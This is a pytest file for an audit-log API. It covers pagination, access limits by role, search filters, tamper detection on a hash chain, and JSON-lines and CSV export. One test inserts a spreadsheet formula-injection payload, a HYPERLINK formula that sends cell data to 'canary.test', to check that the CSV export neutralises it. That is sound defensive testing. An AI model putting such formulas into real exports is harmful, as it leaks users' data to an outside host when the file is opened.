"""The record over HTTP: for administrators and auditors to search, check and take along
(LGPD-08)."""

import csv
import io
import json

import pytest

from appliance import audit
from tests.api.doors import Doors, doors
from tests.audit.writing import tamper, written

__all__ = ["doors"]

pytestmark = pytest.mark.guarantee("LGPD-08")


def auditor(doors: Doors) -> dict[str, str]:
    return doors.cookie_of(doors.add("Aldo", role="auditor"))


def test_an_auditor_reads_the_latest_acts_first_a_page_at_a_time(doors: Doors) -> None:
    admin = doors.admin()
    for number in range(3):
        doors.client.post(
            "/api/keys", json={"name": f"k{number}", "scopes": ["ask"]}, headers=admin
        )
    mine = auditor(doors)

    first = doors.client.get("/api/audit?limit=2", headers=mine).json()
    rest = doors.client.get(f"/api/audit?limit=2&cursor={first['next']}", headers=mine).json()

    entries = first["items"] + rest["items"]
    assert [entry["act"] for entry in entries] == ["key.create"] * 3
    assert [int(entry["id"]) for entry in entries] == [3, 2, 1]
    assert rest["next"] is None
    assert entries[0]["details"] == {"scopes": ["ask"]}


def test_an_act_comes_with_the_names_of_today(doors: Doors) -> None:
    mine = auditor(doors)
    bia = doors.add("Bia", role="member")
    doors.client.delete(f"/api/people/{bia.id}/sessions", headers=doors.admin())

    told = doors.client.get("/api/audit", params={"subject": bia.id}, headers=mine).json()
    assert told["items"][0]["act"] == "session.end_all"
    assert told["items"][0]["names"][bia.id] == "Bia"


@pytest.mark.parametrize("role", ["editor", "member"])
@pytest.mark.parametrize(
    "route", ["GET /api/audit", "GET /api/audit/acts", "GET /api/audit/export",
              "POST /api/audit/verify"],
)  # fmt: skip
def test_others_do_not_read_it(doors: Doors, role: str, route: str) -> None:
    mine = doors.cookie_of(doors.add("Bia", role=role))  # type: ignore[arg-type]
    method, path = route.split()

    assert doors.client.request(method, path, headers=mine).status_code == 403


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_nobody_writes_or_removes_an_entry(doors: Doors, method: str) -> None:
    answer = doors.client.request(method, "/api/audit", headers=doors.admin())

    assert answer.status_code == 405
    assert answer.json()["code"] == "method_not_allowed"


@pytest.mark.parametrize(
    ("wish", "subjects"),
    [
        ({"q": "robô 2"}, ["k2"]),
        ({"q": "robo"}, ["k3", "k2", "k1"]),
        ({"who": "ana"}, ["k3", "k2", "k1"]),
        ({"who": "bia"}, []),
        ({"act": "key"}, ["k3", "k2", "k1"]),
        ({"act": "key.remove"}, []),
        ({"subject": "k1"}, ["k1"]),
        ({"from": "2020-01-01", "to": "2020-12-31"}, []),
        ({"from": "2020-01-01"}, ["k3", "k2", "k1"]),
        ({"q": "robô", "act": "key.create", "subject": "k3", "who": "person:p1"}, ["k3"]),
    ],
    ids=str,
)
def test_acts_are_found_by_what_the_address_asks_for(
    doors: Doors, wish: dict[str, str], subjects: list[str]
) -> None:
    written(doors.database, 3)

    told = doors.client.get("/api/audit", params=wish, headers=auditor(doors)).json()

    assert [entry["subject"] for entry in told["items"]] == subjects


def test_a_date_that_is_none_is_refused_in_a_sentence(doors: Doors) -> None:
    mine = auditor(doors)
    for path in ("/api/audit", "/api/audit/export"):
        told = doors.client.get(path, params={"from": "ontem"}, headers=mine)

        assert (told.status_code, told.json()["code"]) == (400, "bad_moment")
        assert "ontem" in told.json()["detail"]


def test_a_form_asks_which_acts_there_are(doors: Doors) -> None:
    written(doors.database, 2)

    told = doors.client.get("/api/audit/acts", headers=auditor(doors)).json()

    assert told == {"acts": ["key.create"]}


def test_the_chain_is_looked_through_and_its_head_is_told(doors: Doors) -> None:
    written(doors.database, 3)

    told = doors.client.post("/api/audit/verify", json={}, headers=auditor(doors)).json()

    head = audit.head(doors.database)
    assert head is not None
    assert (told["intact"], told["rows"], told["broken"]) == (True, 3, None)
    assert told["head"] == {"id": 3, "hash": head.hash}


def test_the_first_broken_row_is_told(doors: Doors) -> None:
    written(doors.database, 3)
    tamper(doors.database, "update audit set act = 'key.remove' where id = 2")

    told = doors.client.post("/api/audit/verify", json={}, headers=auditor(doors)).json()

    assert (told["intact"], told["broken"], told["fault"]) == (False, 2, "changed")


def test_a_head_kept_elsewhere_is_compared(doors: Doors) -> None:
    written(doors.database, 3)
    kept = str(audit.head(doors.database))
    tamper(doors.database, "delete from audit where id = 3")
    mine = auditor(doors)

    told = doors.client.post("/api/audit/verify", json={"head": kept}, headers=mine).json()
    none = doors.client.post("/api/audit/verify", json={"head": "3:x"}, headers=mine)

    assert (told["intact"], told["broken"], told["fault"]) == (False, 3, "cut")
    assert (none.status_code, none.json()["code"]) == (400, "bad_head")


def test_the_record_is_taken_along_as_json_lines_and_that_is_on_record(doors: Doors) -> None:
    written(doors.database, 3)

    told = doors.client.get("/api/audit/export", params={"subject": "k2"}, headers=auditor(doors))

    assert told.headers["content-type"] == "application/jsonl; charset=utf-8"
    assert 'attachment; filename="audit-' in told.headers["content-disposition"]
    assert told.headers["cache-control"] == "no-store"
    assert [json.loads(line)["subject"] for line in told.text.splitlines()] == ["k2"]
    (last,) = audit.newest(doors.database, limit=1)
    assert (last.act, last.name) == ("audit.export", "Aldo")
    assert last.details == {"format": "jsonl", "subject": "k2"}


@pytest.mark.guarantee("SEC-46")
def test_the_record_is_taken_along_as_csv_without_formulas(doors: Doors) -> None:
    """Twin of opening it in LibreOffice, which is not here: no cell begins like a formula."""
    doors.client.post(
        "/api/groups",
        json={"name": '=HYPERLINK("http://canary.test/?"&A1)', "members": []},
        headers=doors.cookie_of(doors.add("=1+1")),
    )

    told = doors.client.get("/api/audit/export", params={"format": "csv"}, headers=auditor(doors))

    assert told.headers["content-type"] == "text/csv; charset=utf-8"
    text = told.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[4] for row in rows] == ["act", "group.create", "audit.export"]
    assert rows[1][3] == "'=1+1"
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_no_other_form_is_offered(doors: Doors) -> None:
    told = doors.client.get("/api/audit/export", params={"format": "xlsx"}, headers=auditor(doors))

    assert told.status_code == 400
